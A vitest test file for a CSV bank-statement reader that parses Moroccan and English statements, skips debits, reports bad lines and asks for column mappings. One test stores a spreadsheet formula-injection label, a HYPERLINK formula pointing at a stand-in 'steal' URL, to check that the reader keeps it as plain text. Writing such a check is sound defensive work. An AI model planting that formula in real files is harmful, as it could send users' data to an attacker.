import { describe, expect, it } from 'vitest';
import { paymentReference } from '@bourses/common/payment-reference';
import { readStatement } from '#api/payments/statements/read-statement.ts';
import type { StatementReading } from '#api/payments/statements/statement-reading.ts';
import { csvStatement } from './statement-files.ts';

const [ref1, ref2, ref3] = [paymentReference(1), paymentReference(2), paymentReference(3)];

function read(reading: StatementReading) {
  if (reading.status !== 'READ') throw new Error(`Expected a read statement, got ${reading.status}`);
  return reading;
}

// As a Moroccan bank exports it: an account block above the header, `;`, Windows-1252, French.
const frenchStatement = csvStatement(
  [
    ['Relevé de compte', 'Banque Populaire'],
    ['Compte', '181 780 21211 12345678 0001 24'],
    [],
    ['Date opération', 'Date valeur', 'Libellé', 'Débit', 'Crédit', 'Solde'],
    ['02/01/2024', '03/01/2024', `VIR RECU M CHRAIBI REF:${ref1} BOURSE`, '', '1 250,00', '11 250,00'],
    ['03/01/2024', '03/01/2024', 'FRAIS TENUE DE COMPTE', '25,00', '', '11 225,00'],
    [
      '04/01/2024',
      '04/01/2024',
      `VERSEMENT ESPECES CASHPLUS ${ref2.toLowerCase()}`,
      '',
      '1\u00A0500,00 MAD',
      '12 725,00',
    ],
    ['05/01/2024', '05/01/2024', 'VIR RECU SANS REFERENCE', '', '750,00', '13 475,00'],
  ],
  { separator: ';', encoding: 'win1252' },
);

describe('readStatement on a CSV', () => {
  it('reads a French, semicolon separated, Windows-1252 statement: columns, credits, references', async () => {
    expect(frenchStatement.includes(Buffer.from('Libellé', 'utf8'))).toBe(false);

    const reading = read(await readStatement(frenchStatement, { fileName: 'releve-janvier.csv' }));

    expect(reading.columns).toEqual({
      date: 'Date opération',
      label: 'Libellé',
      amount: 'Crédit',
      debit: 'Débit',
    });
    expect(reading.lines.map(({ fingerprint: _, ...line }) => line)).toEqual([
      {
        line: 5,
        date: '2024-01-02',
        label: `VIR RECU M CHRAIBI REF:${ref1} BOURSE`,
        amountCentimes: 125_000,
        references: [ref1],
      },
      {
        line: 7,
        date: '2024-01-04',
        label: `VERSEMENT ESPECES CASHPLUS ${ref2.toLowerCase()}`,
        amountCentimes: 150_000,
        references: [ref2],
      },
      {
        line: 8,
        date: '2024-01-05',
        label: 'VIR RECU SANS REFERENCE',
        amountCentimes: 75_000,
        references: [],
      },
    ]);
    expect(reading.problems).toEqual([]);
  });

  it('reads an English, comma separated, UTF-8 statement with a byte order mark and a reference column', async () => {
    const file = csvStatement(
      [
        ['Date', 'Description', 'Amount', 'Reference', 'Balance'],
        ['2024-01-02', 'TRANSFER FROM K. EL IDRISSI', '1,250.00', ref3, '11,250.00'],
        ['2024-01-03', 'CARD PAYMENT', '-300.00', '', '10,950.00'],
        ['15/01/2024', `Transfer ${ref1} tuition`, '2,000.50 MAD', `${ref1}`, '12,950.50'],
      ],
      { separator: ',', encoding: 'utf8-bom', lineEnd: '\n' },
    );

    const reading = read(await readStatement(file, { fileName: 'statement.csv' }));

    expect(reading.columns).toEqual({
      date: 'Date',
      label: 'Description',
      amount: 'Amount',
      reference: 'Reference',
    });
    expect(
      reading.lines.map(({ line, date, amountCentimes, references }) => ({
        line,
        date,
        amountCentimes,
        references,
      })),
    ).toEqual([
      { line: 2, date: '2024-01-02', amountCentimes: 125_000, references: [ref3] },
      { line: 4, date: '2024-01-15', amountCentimes: 200_050, references: [ref1] },
    ]);
  });

  it('reports a credit with no amount and one with an impossible date by line, and reads the others', async () => {
    const file = csvStatement(
      [
        ['Date', 'Libellé', 'Montant'],
        ['02/01/2024', `VIR ${ref1}`, '1 250,00'],
        ['03/01/2024', `VIR ${ref2}`, ''],
        ['31/02/2024', `VIR ${ref3}`, '500,00'],
        ['', 'SUITE DU LIBELLE', ''],
        ['06/01/2024', 'VIR', 'douze'],
        ['07/01/2024', 'VIR GROS', '2 000 000,00'],
        ['08/01/2024', 'RETRAIT GAB', '-200,00'],
        ['08/01/2024', 'RETRAIT GAB', '(50,00)'],
        ['09/01/2024', 'SOLDE REPORTE', '0,00'],
        ['10/01/2024', `VIR ${ref3}`, '500,00'],
        ['Total', '', '5 250,00'],
      ],
      { separator: ';', encoding: 'utf8' },
    );

    const reading = read(await readStatement(file, { fileName: 'releve.csv' }));

    expect(reading.lines.map(({ line, amountCentimes }) => ({ line, amountCentimes }))).toEqual([
      { line: 2, amountCentimes: 125_000 },
      { line: 11, amountCentimes: 50_000 },
    ]);
    expect(reading.problems).toEqual([
      { line: 3, code: 'AMOUNT_MISSING', value: '' },
      { line: 4, code: 'DATE_INVALID', value: '31/02/2024' },
      { line: 5, code: 'DATE_MISSING', value: '' },
      { line: 6, code: 'AMOUNT_INVALID', value: 'douze' },
      { line: 7, code: 'AMOUNT_TOO_LARGE', value: '2 000 000,00' },
      { line: 12, code: 'DATE_INVALID', value: 'Total' },
    ]);
  });

  it('skips debits whether in their own column or written negative, without reporting them', async () => {
    const file = csvStatement(
      [
        ['Date', 'Libellé', 'Débit', 'Crédit'],
        ['02/01/2024', 'PRELEVEMENT', '100,00', ''],
        ['02/01/2024', 'COMMISSION', '15,00', '0,00'],
        ['02/01/2024', 'RETRAIT GAB', '200,00', '-'],
        ['02/01/2024', 'RETRAIT GAB', '200,00', 'n/a'],
        ['03/01/2024', `VIR ${ref1}`, '', '1 250,00'],
      ],
      { separator: ';', encoding: 'utf8' },
    );

    const reading = read(await readStatement(file, { fileName: 'releve.csv' }));

    expect(reading.lines.map((line) => line.line)).toEqual([6]);
    expect(reading.problems).toEqual([]);
  });

  it('counts the lines of a label spanning several lines, skips blank lines and a repeated header', async () => {
    const file = csvStatement(
      [
        ['Date', 'Libellé', 'Crédit'],
        ['02/01/2024', `VIR RECU\nM CHRAIBI\n${ref1}`, '1 250,00'],
        [],
        ['Date', 'Libellé', 'Crédit'],
        ['03/01/2024', `VIR ${ref2}`, '1 250,00'],
      ],
      { separator: ';', encoding: 'utf8', lineEnd: '\r\n' },
    );

    const reading = read(await readStatement(file, { fileName: 'releve.csv' }));

    expect(reading.lines.map(({ line, label, references }) => ({ line, label, references }))).toEqual([
      { line: 2, label: `VIR RECU\nM CHRAIBI\n${ref1}`, references: [ref1] },
      { line: 7, label: `VIR ${ref2}`, references: [ref2] },
    ]);
    expect(reading.problems).toEqual([]);
  });

  it('keeps a formula in a label as the text it is, and cuts a label past 500 characters', async () => {
    const formula = `=HYPERLINK("http://x.example/steal?d=","${ref1}")`;
    const long = `${'VIREMENT '.repeat(60)}${ref2}`;
    const file = csvStatement(
      [
        ['Date', 'Libellé', 'Crédit'],
        ['02/01/2024', formula, '1 250,00'],
        ['03/01/2024', long, '1 250,00'],
      ],
      { separator: ';', encoding: 'utf8' },
    );

    const reading = read(await readStatement(file, { fileName: 'releve.csv' }));

    const [formulaLine, longLine] = reading.lines;
    expect(formulaLine?.label).toBe(formula);
    expect(formulaLine?.references).toEqual([ref1]);
    expect(longLine?.label).toBe(long.slice(0, 500));
    expect(longLine?.references).toEqual([ref2]);
    expect(reading.problems).toEqual([]);
  });
});

describe('readStatement with headers it does not know', () => {
  const unknownHeaders = csvStatement(
    [
      ['Jour', 'Opération effectuée', 'Somme reçue (MAD)', 'N° pièce'],
      ['02/01/2024', `VIR ${ref1}`, '1 250,00', 'P-0001'],
      ['03/01/2024', 'VIR SANS REF', '300,00', `${ref2}`],
    ],
    { separator: ';', encoding: 'win1252' },
  );

  it('asks for a mapping with the headers as written, then reads the same file with it', async () => {
    const first = await readStatement(unknownHeaders, { fileName: 'releve.csv' });
    expect(first).toEqual({
      status: 'NEEDS_MAPPING',
      headers: ['Jour', 'Opération effectuée', 'Somme reçue (MAD)', 'N° pièce'],
    });

    const mapping = {
      date: 'Jour',
      label: 'Opération effectuée',
      amount: 'Somme reçue (MAD)',
      reference: 'N° pièce',
    };
    const reading = read(await readStatement(unknownHeaders, { fileName: 'releve.csv', mapping }));

    expect(reading.columns).toEqual(mapping);
    expect(
      reading.lines.map(({ line, amountCentimes, references }) => ({ line, amountCentimes, references })),
    ).toEqual([
      { line: 2, amountCentimes: 125_000, references: [ref1] },
      { line: 3, amountCentimes: 30_000, references: [ref2] },
    ]);
  });

  it('matches a mapping whatever the case and accents staff typed', async () => {
    const mapping = { date: 'JOUR', label: 'operation effectuee', amount: 'somme recue (mad)' };

    const reading = read(await readStatement(unknownHeaders, { fileName: 'releve.csv', mapping }));

    expect(reading.columns).toEqual({
      date: 'Jour',
      label: 'Opération effectuée',
      amount: 'Somme reçue (MAD)',
    });
    expect(reading.lines).toHaveLength(2);
  });

  it('refuses a mapping naming a header the file does not have, or one header twice', async () => {
    await expect(
      readStatement(unknownHeaders, {
        fileName: 'releve.csv',
        mapping: { date: 'Jour', label: 'Libellé', amount: 'Somme reçue (MAD)' },
      }),
    ).rejects.toMatchObject({ status: 400, key: 'STATEMENT_MAPPING_INVALID', params: { header: 'Libellé' } });
    await expect(
      readStatement(unknownHeaders, {
        fileName: 'releve.csv',
        mapping: { date: 'Jour', label: 'Jour', amount: 'Somme reçue (MAD)' },
      }),
    ).rejects.toMatchObject({ key: 'STATEMENT_MAPPING_INVALID', params: { header: 'Jour' } });
  });
});
